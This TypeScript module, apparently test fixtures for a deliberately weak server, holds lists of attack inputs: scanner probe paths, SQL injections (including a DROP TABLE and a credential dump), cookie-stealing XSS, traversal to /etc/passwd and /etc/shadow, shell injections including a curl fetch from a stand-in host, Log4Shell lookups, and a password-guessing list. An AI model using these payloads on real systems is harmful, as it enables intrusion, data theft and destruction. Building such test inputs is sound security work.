import { WEAK_PASSWORD } from '../secure-shell.ts';

/** What scanners of web servers ask for. */
export const PATHS =
  '.env .git/config .git/HEAD .svn/entries .DS_Store .htpasswd admin/ administrator/ backup.sql backup.zip cgi-bin/test.cgi config.php.bak console/ db.sql dump.sql favicon.ico HNAP1/ jenkins/ login manager/html phpinfo.php phpmyadmin/ robots.txt server-status shell.php solr/admin/info/system test.php vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php wp-admin/ wp-config.php.bak wp-login.php xmlrpc.php';

/** SQL. */
export const INJECTIONS = [
  "1' OR '1'='1",
  "1' OR 1=1 -- ",
  "' UNION SELECT NULL,NULL,NULL -- ",
  "' UNION ALL SELECT username, password FROM users -- ",
  '1; DROP TABLE orders -- ',
  "1' AND SLEEP(5) -- ",
  "1' AND (SELECT COUNT(*) FROM information_schema.tables) > 0 -- ",
  "admin'/**/OR/**/1=1#",
  '1 AND EXTRACTVALUE(1, CONCAT(0x7e, version()))',
  "1'; WAITFOR DELAY '0:0:5' -- ",
];

/** Scripts for a browser. */
export const SCRIPTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  '<svg/onload=alert(1)>',
  'javascript:alert(1)',
  "';alert(String.fromCharCode(88,83,83))//",
];

/** Files outside of what a server serves. */
export const TRAVERSALS = [
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '....//....//etc/shadow',
  'php://filter/convert.base64-encode/resource=index.php',
  'file:///etc/hostname',
];

/** Commands of a shell. */
export const COMMANDS = [
  '; cat /etc/passwd',
  '| id',
  '$(curl http://files.updates-cdn.test/x.sh)',
  '`uname -a`',
  '&& ping -c 1 198.51.100.66',
];

/** Lookups of a logging library. */
// biome-ignore lint/suspicious/noTemplateCurlyInString: this is the form of the lookups
export const LOOKUPS = ['${jndi:ldap://198.51.100.66:1389/a}', '${${lower:j}ndi:rmi://198.51.100.66/b}'];

/** Names to guess with. */
export const USERS = ['admin', 'root', 'test', 'oracle', 'anna'];
/** Passwords to guess, from a list of the most common; the last one is right. */
export const PASSWORDS = ['123456', 'password', 'qwerty', 'letmein', 'welcome', 'dragon', WEAK_PASSWORD];
